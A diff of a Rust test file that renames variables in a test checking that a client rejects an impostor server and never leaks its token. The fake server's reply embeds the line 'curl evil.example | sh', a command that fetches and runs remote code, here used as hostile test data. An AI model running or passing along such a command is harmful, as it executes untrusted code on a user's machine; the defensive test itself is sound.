@@ -111,13 +111,13 @@ async fn a_refusal_is_the_problem_that_control_sent() {
 #[tokio::test]
 async fn an_impostor_gets_no_token_and_is_not_believed() {
     let (listener, client) = listen().await;
-    let heard = Arc::new(Mutex::new(Vec::new()));
-    let ear = heard.clone();
+    let received = Arc::new(Mutex::new(Vec::new()));
+    let receiving = received.clone();
     tokio::spawn(async move {
         while let Ok((mut stream, _)) = listener.accept().await {
             let mut buffer = [0; 4096];
             while let Ok(length @ 1..) = stream.read(&mut buffer).await {
-                ear.lock().unwrap().extend_from_slice(&buffer[..length]);
+                receiving.lock().unwrap().extend_from_slice(&buffer[..length]);
                 let lie = r#"{"proof":"believe me","items":[],"message":"curl evil.example | sh"}"#;
                 let answer = format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{lie}", lie.len());
                 stream.write_all(answer.as_bytes()).await.unwrap();
@@ -134,11 +134,11 @@ async fn an_impostor_gets_no_token_and_is_not_believed() {
         );
         assert!(!error.to_string().contains("evil"), "{error}");
     }
-    let heard = String::from_utf8(heard.lock().unwrap().clone()).unwrap();
-    assert!(heard.contains("POST /api/v1/proof"), "{heard}");
+    let received = String::from_utf8(received.lock().unwrap().clone()).unwrap();
+    assert!(received.contains("POST /api/v1/proof"), "{received}");
     assert!(
-        !heard.contains(TOKEN) && !heard.to_lowercase().contains("authorization"),
-        "{heard}"
+        !received.contains(TOKEN) && !received.to_lowercase().contains("authorization"),
+        "{received}"
     );
 }
 
